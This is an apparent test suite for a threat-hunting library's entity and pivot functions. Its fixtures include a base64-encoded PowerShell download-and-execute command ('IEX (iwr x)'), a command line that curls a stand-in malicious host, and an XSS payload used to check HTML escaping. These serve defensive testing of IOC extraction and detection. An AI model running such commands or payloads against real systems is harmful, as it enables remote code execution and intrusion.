// Entities and what can be done with them, as users call them.
import assert from "node:assert/strict";
import test from "node:test";
import * as hb from "../../pkg/node.js";

const rejects = (work, code, message) => assert.rejects(work, (error) => {
  assert.ok(error instanceof hb.HuntbookError, String(error?.stack));
  assert.equal(error.code, code, error.message);
  assert.match(error.message, message);
  return true;
});

test("an entity has its fields, and does not change", async () => {
  const host = await hb.entity("host", { HostName: "web1", DnsDomain: "contoso.com", Roles: ["dc"] });
  assert.deepEqual([host.kind, host.id, host.name, host.fqdn, String(host)], ["Host", "host|web1.contoso.com", "web1.contoso.com", "web1.contoso.com", "Host(web1.contoso.com)"]);
  assert.deepEqual(Object.keys(host), ["Type", "HostName", "DnsDomain", "Roles"]);
  assert.deepEqual(host.toJson(), { Type: "host", HostName: "web1", DnsDomain: "contoso.com", Roles: ["dc"] });
  assert.throws(() => { host.HostName = "b"; }, TypeError);
  assert.throws(() => { host.Roles.push("x"); }, TypeError);
  assert.ok(host instanceof hb.Entity);
  assert.deepEqual((await hb.entity("Host", host.toJson())).toJson(), host.toJson());
  const process = await hb.entity("Process", { ImageFile: "C:\\Windows\\cmd.exe", CreationTimeUtc: new Date(0), ProcessId: 12n });
  assert.equal(process.ImageFile.kind, "File");
  assert.equal(process.ImageFile.Directory, "C:\\Windows");
  assert.equal(process.ProcessFilePath, "C:\\Windows\\cmd.exe");
  assert.equal(process.toJson().ImageFile.Type, "file");
});

test("what is no entity is an error that says what is", async () => {
  await rejects(hb.entity("IpAdress", "1.2.3.4"), "invalidArgument", /no kind of entity `IpAdress`; did you mean `IpAddress`\?/);
  await rejects(hb.entity("IpAddress", "evil.com"), "invalidArgument", /`evil\.com` is no IpAddress/);
  await rejects(hb.entity("Host", { HostNam: "a" }), "invalidArgument", /did you mean `HostName`/);
  await rejects(hb.entity("Host"), "invalidArgument", /a text or of an object/);
  await rejects(hb.entity(1, "a"), "invalidArgument", /the first argument is a kind/);
  assert.throws(() => new hb.Entity(), { code: "invalidArgument" });
});

test("entities are equal by what identifies them, and merge", async () => {
  const [a, b, c] = [await hb.entity("Host", { HostName: "WEB1", OSFamily: "Linux" }), await hb.entity("Host", { HostName: "web1", AzureID: "7" }), await hb.entity("Host", "web2")];
  assert.deepEqual([a.equals(b), a.equals(c), a.equals("web1"), a.canMerge(b), a.canMerge(c)], [true, false, false, true, false]);
  assert.deepEqual(a.merge(b).toJson(), { Type: "host", HostName: "WEB1", OSFamily: "Linux", AzureID: "7" });
  assert.throws(() => a.merge(c), { code: "invalidArgument", message: /`WEB1` and `web2` are not the same/ });
});

test("it shows itself, whatever is in it", async () => {
  const html = (await hb.entity("Host", { HostName: "<img src=x onerror=alert(1)>", note: "a & b" }))._toHtml();
  assert.match(html, /&lt;img src=x/);
  assert.doesNotMatch(html, /<img/);
});

const ENTITIES = JSON.stringify([
  { $id: "2", HostName: "ws1", Type: "host" },
  { $id: "3", Name: "ada", Host: { $ref: "2" }, Type: "account" },
  { $id: "4", Address: "203.0.113.7", Type: "ip" },
]);

test("an alert's entities, of a row and of a table", async () => {
  const table = await hb.Table.fromRows([
    { AlertName: "Odd", Entities: ENTITIES, ExtendedProperties: '{"User":"ada"}', TimeGenerated: new Date(0), Type: "SecurityAlert" },
    { AlertName: "Broken", Entities: "{not", ExtendedProperties: null, TimeGenerated: null, Type: "SecurityAlert" },
  ]);
  const alert = await hb.Entity.fromAlert(table.row(0));
  assert.deepEqual([alert.kind, alert.name, alert.ExtendedProperties], ["Alert", "Odd", { User: "ada" }]);
  assert.deepEqual(alert.Entities.map(String), ["Host(ws1)", "Account(ada)", "IpAddress(203.0.113.7)"]);
  assert.equal(alert.Entities[1].Host.HostName, "ws1");
  assert.equal(await alert.Entities[2].ipType(), "Documentation");
  const all = await hb.Entity.fromAlert(table);
  assert.deepEqual(all.map(({ name, Entities }) => [name, typeof Entities]), [["Odd", "object"], ["Broken", "string"]]);
});

test("an entity's functions", async () => {
  const ip = await hb.entity("ip", "10[.]0.0.1");
  assert.ok(ip.pivots.some(({ name, field, description }) => name === "ipInfo" && field === "Address" && description.length > 10));
  assert.equal((await ip.ipInfo()).network, "10.0.0.0/8");
  assert.deepEqual((await ip.describeIps({ networks: { lab: ["10.0.0.0/24"] } })).column("Network"), ["lab"]);
  const url = await hb.entity("Url", "hxxps://evil[.]example/a?b");
  assert.equal((await url.urlParts()).query, "b");
  const process = await hb.entity("Process", { CommandLine: "powershell -enc SQBFAFgAIAAoAGkAdwByACAAeAApAA== 203.0.113.7" });
  assert.deepEqual(await process.splitCommandLine({ syntax: "posix" }), ["powershell", "-enc", "SQBFAFgAIAAoAGkAdwByACAAeAApAA==", "203.0.113.7"]);
  assert.ok((await process.extractIocs()).column("Observable").includes("203.0.113.7"));
  assert.equal((await process.unpackBase64()).row(0).decoded_string, "IEX (iwr x)");
  const risky = await process.riskyCommandLines();
  assert.ok(risky.numRows > 0 && !risky.columns.some(({ name }) => ["Value", "SourceIndex"].includes(name)));
  await rejects((await hb.entity("Process", "C:\\a.exe")).extractIocs(), "invalidArgument", /this Process has no CommandLine/);
  await rejects(ip.ipInfo({ x: 1 }), "invalidArgument", /no option `x`/);
});

const flows = () => hb.Table.fromRows([
  { src: "10.0.0.1", Address: "x" }, { src: "evil.com", Address: "y" }, { src: "2001:db8:0::1", Address: "z" }, { src: null, Address: "u" }, { src: "10.0.0.1", Address: "v" },
]);

test("a column of entities: left, inner, and results alone", async () => {
  const pivots = (await flows()).pivot("IpAddress", { column: "src" });
  assert.deepEqual(pivots.list().map(({ name }) => name), ["ipType", "ipInfo", "describeIps", "defang"]);
  const left = await pivots.describeIps({ join: "left" });
  assert.deepEqual(left.columns.map(({ name }) => name).slice(0, 4), ["src", "Address_src", "src_row_index", "Address_res"]);
  assert.deepEqual(left.column("IpType"), ["Private", null, "Documentation", null, "Private"]);
  assert.deepEqual(left.column("Address_src"), ["x", "y", "z", "u", "v"]);
  const inner = await pivots.ipInfo({ join: "inner" });
  assert.deepEqual(inner.column("type"), ["Private", "Documentation", "Private"]);
  assert.deepEqual([...inner.column("src_row_index")], [0, 2, 4]);
  const alone = await pivots.ipType();
  assert.deepEqual(alone.rows(), [{ src: "10.0.0.1", ipType: "Private" }, { src: "2001:db8::1", ipType: "Documentation" }]);
});

test("functions that give several rows, or take the whole table", async () => {
  const table = await hb.Table.fromRows([
    { CommandLine: "ping 203.0.113.7 && curl http://evil.example/a", n: 1 }, { CommandLine: "ls", n: 2 }, { CommandLine: "ping 203.0.113.7 && curl http://evil.example/a", n: 3 },
  ]);
  const pivots = table.pivot("process", { column: "CommandLine" });
  const iocs = await pivots.extractIocs({ join: "left", types: ["ipv4", "dns"] });
  assert.deepEqual(iocs.rows().map(({ n, Observable, src_row_index: row }) => [n, Observable, row]), [
    [1, "203.0.113.7", 0], [1, "evil.example", 0], [2, null, 1], [3, "203.0.113.7", 2], [3, "evil.example", 2],
  ].filter(([, observable]) => iocs.column("Observable").includes(observable)));
  assert.equal((await pivots.splitCommandLine({ syntax: "posix", join: "left" })).numRows, 3);
  await rejects(pivots.extractIocs({ columns: ["n"] }), "invalidArgument", /leave out `columns`/);
  const tree = await hb.Table.fromRows([{ TimeCreated: "2026-01-01T00:00:00Z", Computer: "a", NewProcessName: "C:\\b.exe", NewProcessId: "0x2", ProcessId: "0x1", CommandLine: "b" }]);
  assert.equal((await tree.pivot("Process", { column: "CommandLine" }).fastCommandRuns({ timeColumn: "TimeCreated" })).numRows, 0);
});

test("what is wrong with a pivot is said at once", async () => {
  const table = await flows();
  assert.throws(() => table.pivot("IpAdress", { column: "src" }), { code: "invalidArgument", message: /did you mean `IpAddress`/ });
  assert.throws(() => table.pivot("IpAddress", { column: "dst" }), { code: "columnNotFound" });
  assert.throws(() => table.pivot("IpAddress", {}), { code: "invalidArgument", message: /name the column/ });
  assert.throws(() => table.pivot("IpAddress", { col: "src" }), { code: "invalidArgument", message: /no option `col`/ });
  const pivots = table.pivot("IpAddress", { column: "src" });
  await rejects(pivots.run("whois"), "invalidArgument", /no function `whois` of IpAddress \(there are: ipType/);
  await rejects(pivots.ipInfo({ join: "outer" }), "invalidArgument", /"left" or "inner"/);
  await rejects(pivots.ipInfo({ joinIgnorecase: true }), "invalidArgument", /no option `joinIgnorecase`/);
});

test("functions of one's own: each value once, and in case that is ignored", async () => {
  const asked = [];
  const assets = { ws1: [{ owner: "ada", app: "mail" }, { owner: "ada", app: "web" }], ws2: { owner: "bob" } };
  await hb.addPivot("Host", "asset", async (name, { suffix = "" }) => {
    asked.push(name + suffix);
    return assets[name.toLowerCase()];
  }, { field: "HostName", description: "Who has it" });
  assert.deepEqual(await (await hb.entity("Host", "ws2")).asset(), { owner: "bob" });
  const table = await hb.Table.fromRows(["ws1", "WS1", "ws3", "ws2", "ws1"].map((host) => ({ host })));
  asked.length = 0;
  const seen = [];
  const left = await table.pivot("Host", { column: "host" }).asset({ join: "left", joinIgnoreCase: true, suffix: "!", onProgress: (fraction) => seen.push(fraction) });
  assert.deepEqual(asked, ["ws1!", "ws3!", "ws2!"]);
  assert.deepEqual(left.rows().map(({ host, owner, app }) => [host, owner, app]), [
    ["ws1", "ada", "mail"], ["ws1", "ada", "web"], ["WS1", "ada", "mail"], ["WS1", "ada", "web"], ["ws3", null, null], ["ws2", "bob", null], ["ws1", "ada", "mail"], ["ws1", "ada", "web"],
  ]);
  const bar = { value: 0, max: 1 };
  await table.pivot("Host", { column: "host" }).asset({ onProgress: bar });
  await hb.addPivot("Host", "asset", () => "again");
  assert.equal(await (await hb.entity("Host", "ws2")).asset(), "again");
  await rejects(hb.addPivot("IpAddress", "ipInfo", () => 1), "invalidArgument", /has `ipInfo` already/);
  await rejects(hb.addPivot("Host", "merge", () => 1), "invalidArgument", /cannot be the name/);
  await rejects(hb.addPivot("Hots", "x", () => 1), "invalidArgument", /did you mean `Host`/);
  await rejects(hb.addPivot("Host", "x", 1), "invalidArgument", /the function/);
});

test("a signal stops it between two values", async () => {
  const controller = new AbortController();
  let count = 0;
  await hb.addPivot("Account", "slow", () => {
    count++;
    if (count === 3) controller.abort("enough");
  });
  const table = await hb.Table.fromColumns({ user: ["a", "b", "c", "d", "e"] });
  await rejects(table.pivot("Account", { column: "user" }).slow({ signal: controller.signal }), "cancelled", /cancelled/);
  assert.equal(count, 3);
});
